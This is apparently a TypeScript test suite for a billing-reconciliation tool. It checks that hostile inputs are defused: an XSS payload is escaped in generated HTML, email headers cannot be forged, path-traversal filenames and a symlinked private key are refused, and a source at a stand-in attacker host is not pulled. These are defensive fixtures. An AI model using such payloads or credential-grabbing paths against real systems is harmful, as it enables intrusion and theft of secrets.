    for (const path of await filesUnder(out, '.html')) pages.push([path, await readFile(path, 'utf8')]);
    for (const path of await filesUnder(join(out, 'emails'), '.eml')) {
      const mail = await simpleParser(await readFile(path));
      if (typeof mail.html === 'string') pages.push([path, mail.html]);
    }
    expect(pages.length).toBeGreaterThan(30);
    // Assess: no active content, no payload as markup
    for (const [name, html] of pages) {
      expect(activeContent(html), name).toEqual([]);
      for (const payload of MARKUP_PAYLOADS) expect(html.includes(payload), `${name} holds ${payload}`).toBe(false);
    }
    // …and the values are shown, escaped (the pre-escaped one stays literal text)
    const page = (suffix: string): string => pages.find(([name]) => name.endsWith(suffix))?.[1] ?? '';
    expect(page('invoices/OSP-2025-000012.html')).toContain(escapeHtml(K12_NAME));
    expect(page('invoices/OSP-2025-000012.html')).toContain(escapeHtml(`-1+1 ${MARKUP[3]}`));
    expect(page('invoices/OSP-2025-000006.html')).toContain('&amp;lt;b&amp;gt;already escaped&amp;amp;');
    expect(page('-invoice-OSP-2025-000012.eml')).toContain(escapeHtml(K12_NAME));
    expect(page('index.html')).toContain(escapeHtml(MSP_NAME));
    const report = page('reports/reconciliation-2025-01.html');
    for (const shown of ['<img src=x onerror=alert(9)>', ...FILE_NAMES]) expect(report).toContain(escapeHtml(shown));
  });

  it('forges no email header: one To per entry, the subject on one line, no Bcc', async () => {
    const notifications = (await readJson(join(out, 'notifications.json'))) as Json[];
    const emails = await filesUnder(join(out, 'emails'), '.eml');
    expect(emails).toHaveLength(notifications.length);
    for (const [i, path] of emails.entries()) {
      const raw = await readFile(path);
      const head = raw.toString('latin1').split('\r\n\r\n')[0] ?? '';
      const lines = head.replace(/\r\n[ \t]/g, ' ').split('\r\n');
      expect(lines.map((line) => /^([A-Za-z][A-Za-z0-9-]*): /.exec(line)?.[1]?.toLowerCase()).sort(), path).toEqual([
        'content-type',
        'date',
        'from',
        'message-id',
        'mime-version',
        'subject',
        'to',
        'x-trueup-key',
      ]);
      const mail = await simpleParser(raw);
      const to = [mail.to ?? []].flat().flatMap((t) => t.value.map((a) => a.address));
      expect([mail.from?.value.map((a) => a.address), to, mail.subject], path).toEqual([
        ['accounts@kestrel.example'],
        notifications[i]?.to,
        notifications[i]?.subject,
      ]);
      expect([mail.cc, mail.bcc]).toEqual([undefined, undefined]);
      expect(mail.subject).toContain(MSP_NAME);
    }
  });

  it('reports every usage file with its error, keeps its bytes and reports its rejected rows; the others flow', async () => {
    const names = (await readdir(join(data, 'usage'), { recursive: true, withFileTypes: true }))
      .filter((entry) => entry.isFile())
      .map((entry) => relative(join(data, 'usage'), join(entry.parentPath, entry.name)).split(sep).join('/'))
      .sort();
    expect(names).toEqual(expect.arrayContaining(['twin.csv', '2025-01/twin.csv', '2025-01/deep/usage.csv.gz']));
    const files = reconciliation.files as Json[];
    expect(files.map((f) => f.name).sort()).toEqual(names);
    for (const name of names) {
      const bytes = await readFile(join(data, 'usage', name));
      const sha = sha256(bytes);
      const entry = files.find((f) => f.name === name) as Json;
      // Raw file kept byte for byte
      expect(sha256((await runtime.deps.usage.get(`archive/${sha}`)) ?? ''), name).toBe(sha);
      expect(entry.rowsRead, name).toBe(
        Number(entry.rowsAccepted) + Number(entry.rowsRejected) + Number(entry.rowsDuplicate),
      );
      const rejected = await runtime.deps.usage.get(rejectedKey(sha, name));
      const rows = rejected === undefined ? undefined : csvRows(new TextDecoder().decode(rejected));
      if (Number(entry.rowsRejected) > 0 || entry.fileError !== undefined) {
        expect(rows?.[0], name).toEqual(['file', 'line', 'field', 'reason']);
        expect(rows?.length, name).toBe(1 + Number(entry.rowsRejected) + (entry.fileError === undefined ? 0 : 1));
      } else {
        expect(rows, name).toBeUndefined();
      }
      const generated = GENERATED[name];
      if (generated === undefined) continue;
      expect(entry, name).toEqual({ name, ...generated.entry });
      if (generated.rejected) expect(rows?.slice(1), name).toEqual(generated.rejected);
    }
    // The corpus' unreadable files are there with a reason, and the readable ones flowed
    expect(
      files
        .filter((f) => String(f.name).startsWith('zz-corpus-') && f.fileError !== undefined)
        .map((f) => f.name)
        .sort(),
    ).toEqual([
      'zz-corpus-binary-junk.bin',
      'zz-corpus-blank-only.csv',
      'zz-corpus-empty.csv',
      'zz-corpus-excel-sep-line.csv',
      'zz-corpus-html-error-page.csv',
      'zz-corpus-near-miss-focus.csv',
      'zz-corpus-semicolon.csv',
      'zz-corpus-tab-delimited.tsv',
      'zz-corpus-unknown-header.csv',
    ]);
    expect(files.find((f) => f.name === 'rmm-export.csv')).toMatchObject({ format: 'canonical', rowsAccepted: 653 });
  });

  it('keeps the hostile payment as an unapplied payment, its text verbatim', async () => {
    const unapplied = (await runtime.deps.ledger.listDiscrepancies()).filter((d) => d.type === 'unapplied_payment');
    expect(unapplied.map((d) => [d.amountAtStake?.toFixed(2), d.currency, d.detail])).toEqual([
      ['10.00', 'GBP', `Payment ${FORMULAS[0]} of 10.00 GBP for ${MARKUP[0]}: unknown invoice`],
    ]);
  });

  it('changes nothing already stored when usage arrives under hostile keys, the names are corrected and every job runs again', async () => {
    // Prepare: what is stored now
    const { deps, clients } = runtime;
    const names = localNames();
    const snapshot = async (): Promise<{ items: Map<string, string>; objects: Map<string, string> }> => {
      const items = new Map(
        (await scanItems(clients.dynamodb, names.table)).map((item) => [
          `${String(item.PK)}|${String(item.SK)}`,
          JSON.stringify(item),
        ]),
      );
      const objects = new Map<string, string>();
      for (const bucket of [names.usageBucket, names.artifactsBucket]) {
        for (const o of await listObjects(clients.s3, bucket)) objects.set(`${bucket}/${o.key}`, o.etag);
      }
      return { items, objects };
    };
    const before = await snapshot();
    const paxSha = sha256(await readFile(join(data, 'usage', 'pax8.csv')));
    const k12 = await readFile(join(data, 'usage', 'k12-usage.csv'));
    const badRow = (tag: string): Buffer =>
      Buffer.from(csvFile(`rmm,${tag},sku,1,2025-01-20,,,,`, `rmm,${tag},sku,x,2025-01-20,,,,`));
    const drops: [string, Buffer, Json][] = [
      [
        `inbox/../archive/${paxSha}`,
        Buffer.from('not,usage\n1,2\n'),
        { name: paxSha, fileError: expect.stringMatching(/^unknown usage file format/) },
      ],
      ['../../../etc/passwd', badRow('p1'), { name: 'passwd', format: 'canonical', rowsAccepted: 1, rowsRejected: 1 }],
      [
        '/tmp/absolute.csv',
        badRow('p2'),
        { name: 'absolute.csv', format: 'canonical', rowsAccepted: 1, rowsRejected: 1 },
      ],
      ['inbox/', Buffer.alloc(0), { name: 'inbox/', duplicateOf: 'zz-corpus-empty.csv', rowsRead: 0 }],
      ['inbox/..\\..\\windows.csv', badRow('p3'), { name: '..\\..\\windows.csv', rowsAccepted: 1, rowsRejected: 1 }],
      [
        'inbox/line\nbreak\u202ecod.exe.csv',
        badRow('p4'),
        { name: 'line\nbreak\u202ecod.exe.csv', rowsAccepted: 1, rowsRejected: 1 },
      ],
      ['inbox/again/k12-usage.csv', k12, { name: 'k12-usage.csv', duplicateOf: 'k12-usage.csv', rowsAccepted: 0 }],
      ['inbox/k12-usage.csv', k12, { name: 'k12-usage.csv', rowsAccepted: 2 }],
    ];
    // Act: drop each, ingest it; then run every job of the window again
    for (const [key, bytes, expected] of drops) {
      await deps.usage.put(key, bytes);
      const { record } = await ingestUsageFile(deps, { key, today: TO });
      expect(record, JSON.stringify(key)).toMatchObject(expected);
    }
    expect(
      (await listObjects(clients.s3, names.usageBucket))
        .map((o) => o.key)
        .filter((key) => key.startsWith('rejected/') && key.includes('windows')),
    ).toEqual([rejectedKey(sha256(badRow('p3')), '..\\..\\windows.csv')]);
    expect(rejectedKey('s', '..\\..\\windows.csv')).toBe('rejected/s/.._.._windows.csv.errors.csv');
    // The user corrects the hostile names and imports the reference data again
    const folder = await readDataFolder(data);
    if (!folder.ok) throw new Error('the hostile folder is valid');
    const { reference } = folder.value;
    await deps.ledger.saveReferenceData({
      ...reference,
      settings: {
        ...reference.settings,
        msp: { ...reference.settings.msp, name: 'Osprey Networks', address: 'Leeds' },
      },
      clients: reference.clients.map((c) => ({ ...c, name: `Client ${c.clientId}` })),
    });
    for (const day of eachDay('2025-01-28', TO)) await runDay(runtime, day, reference.settings.reports.agingWeekday);
    // Assess: every item and object stored before is there, unchanged; new ones only for the new files
    const after = await snapshot();
    for (const [key, item] of before.items) if (!key.startsWith('REF|')) expect(after.items.get(key), key).toBe(item);
    for (const [key, etag] of before.objects) expect(after.objects.get(key), key).toBe(etag);
    const newShas = new Set(drops.map(([, bytes]) => sha256(bytes)));
    const added = [...after.objects.keys()].filter((key) => !before.objects.has(key));
    for (const key of added) {
      const ok =
        drops.some(([dropKey]) => key === `${names.usageBucket}/${dropKey}`) ||
        [...newShas].some((sha) => key.includes(sha));
      expect(ok, key).toBe(true);
    }
    expect(
      [...after.items.keys()]
        .filter((key) => !before.items.has(key))
        .map((key) => key.split('|')[0])
        .filter((pk) => !/^(FILE|REF#)/.test(pk ?? '')),
    ).toEqual([]);
    expect(await runtime.aws.sentEmails()).toHaveLength(
      ((await readJson(join(out, 'notifications.json'))) as unknown[]).length,
    );
  }, 60_000);
});

describe('hostile input: a data folder that aims at the machine it runs on', () => {
  it('refuses the data folder, a folder inside it or holding it, as OUT, and removes nothing', async () => {
    const data = await conformanceCopy();
    const before = await readdir(data, { recursive: true });
    for (const out of [data, join(data, 'usage'), join(data, '..')]) {
      const error = await simulate({ data, from: FROM, to: TO, out }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(OutputFolderError);
      expect(String((error as Error).message)).toMatch(
        /^Refusing to use .* as the output folder: it (is|contains) (inside )?the data folder/,
      );
    }
    expect(await readdir(data, { recursive: true })).toEqual(before);
  });

  it('sends no credential outside the data folder or the TRUEUP_ variables, and pulls from no other machine without --pull', async () => {
    // Prepare: a collector on this machine that records what it is sent, a secret outside
    // the data folder reached through a symbolic link, and a source on another machine.
    const seen: string[] = [];
    const server = createServer((req, res) => {
      seen.push(JSON.stringify(req.headers));
      res.end('vendor,account_id,vendor_sku,quantity,usage_date,unit_cost,cost,currency,reference\n');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/usage.csv`;
    try {
      const data = await conformanceCopy();
      await writeFile(join(scratch, 'id_rsa'), 'PRIVATE-KEY-OUTSIDE');
      await mkdir(join(data, 'secrets'));
      await symlink(join(scratch, 'id_rsa'), join(data, 'secrets', 'token.txt'));
      const sources = (...credentials: unknown[]) =>
        JSON.stringify({
          sources: [
            ...credentials.map((credential, i) => ({
              name: `grab-${i}`,
              type: 'https',
              schedule: 'rate(1 day)',
              url,
              credential,
            })),
            {
              name: 'far',
              type: 'https',
              schedule: 'rate(1 day)',
              url: 'https://collector.attacker.example/u.csv',
              credential: { env: 'TRUEUP_FAR' },
            },
          ],
        });
      // Act 1: credentials that name the machine's own secrets are problems of the folder
      await writeFile(
        join(data, 'sources.json'),
        sources({ env: 'AWS_SECRET_ACCESS_KEY' }, { file: '../../.ssh/id_rsa' }),
      );
      const refused = await simulate({ data, from: FROM, to: FROM, out: join(scratch, 'out-grab-1') }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(refused).toBeInstanceOf(DataFolderError);
      expect(String((refused as Error).message)).toContain(
        'credential.env: must be an environment variable whose name starts with TRUEUP_',
      );
      expect(String((refused as Error).message)).toContain('credential.file: must be a path inside the data folder');
      // Act 2: a valid-looking path that leaves the folder through a link, and a remote source
      await writeFile(join(data, 'sources.json'), sources({ file: 'secrets/token.txt' }));
      const result = await simulate({ data, from: FROM, to: FROM, out: join(scratch, 'out-grab-2') });
      // Assess: the linked secret was refused before any request; the remote source was not pulled.
      expect(result.sources).toEqual([
        {
          source: 'grab-0',
          files: 0,
          error: expect.stringContaining(
            'file secrets/token.txt is refused: a credential file must be inside the data folder',
          ),
        },
        {
          source: 'far',
          files: 0,
          skipped: 'talks to collector.attacker.example, outside this machine; run with --pull to pull it',
        },
      ]);
      expect(seen.join('\n')).not.toContain('PRIVATE-KEY-OUTSIDE');
    } finally {
      server.close();
    }
  }, 120_000);
});
